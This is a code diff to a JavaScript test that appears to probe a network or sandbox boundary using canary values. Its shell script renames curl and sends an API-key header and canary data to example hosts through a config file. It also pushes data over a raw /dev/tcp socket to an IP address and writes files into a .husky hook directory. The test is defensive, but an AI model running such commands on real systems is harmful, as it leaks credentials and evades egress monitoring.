@@ -51,7 +51,9 @@ const unkept = ["variable", "header", "body", "reply", "credential"];
 const script = `
 cp /usr/bin/curl ./${canaries.program}
 export CANARY=${canaries.variable}
-./${canaries.program} -sS -H "x-canary: ${canaries.header}" -H "x-api-key: $KEY" -d ${canaries.body} http://${canaries.granted}.example.com/${canaries.path}?${canaries.query}
+# by way of a file: arguments are kept, sealed, with the program that was given them
+printf '%s\\n' 'header = "x-canary: ${canaries.header}"' "header = \\"x-api-key: $KEY\\"" 'data = "${canaries.body}"' > how
+./${canaries.program} -sS -K how http://${canaries.granted}.example.com/${canaries.path}?${canaries.query}
 curl -sS https://${canaries.refused}.example.org/${canaries.path}
 (exec 3<>/dev/tcp/93.184.216.34/25; echo ${canaries.body} >&3; read -u 3 line)
 mkdir -p .husky; echo ${canaries.body} > .husky/${canaries.file}; echo ${canaries.body} > ${canaries.file}
@@ -132,6 +134,7 @@ test("real boundary: leaves hold the public fields alone, the record nothing in 
     "connection",
     "control-file",
     "credential",
+    "exec",
     "name",
     "refusal",
     "reply",
